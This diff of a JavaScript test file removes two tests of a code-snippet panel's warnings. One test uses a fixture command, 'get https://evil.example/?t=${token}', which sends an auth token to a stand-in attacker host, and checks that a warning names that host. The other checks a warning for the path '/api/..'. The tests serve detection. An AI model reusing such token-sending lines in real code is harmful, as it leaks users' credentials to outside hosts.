@@ -231,24 +231,6 @@ describe('the warnings', () => {
     expect(options('Language')).toHaveProperty('curl');
     expect(labels()).toEqual([]);
   });
-
-  it('name other hosts while the code contains the token', () => {
-    page.set({
-      custom: [{ name: 'far', code: 'get https://evil.example/?t=${token}' }]
-    });
-    page.model.choose({ language: 'far' });
-    expect(warnings()).toEqual([]);
-    page.model.choose({ includeToken: true });
-    expect(warnings()).toEqual([expect.stringContaining('evil.example')]);
-  });
-
-  it('say why there is no code for a path', () => {
-    page.panel.set({ apiPath: '/api/..' });
-    expect(warnings()).toEqual([
-      expect.stringMatching(/^There is no code.*must not contain/)
-    ]);
-    expect(labels()).toEqual([]);
-  });
 });
 
 it.each([
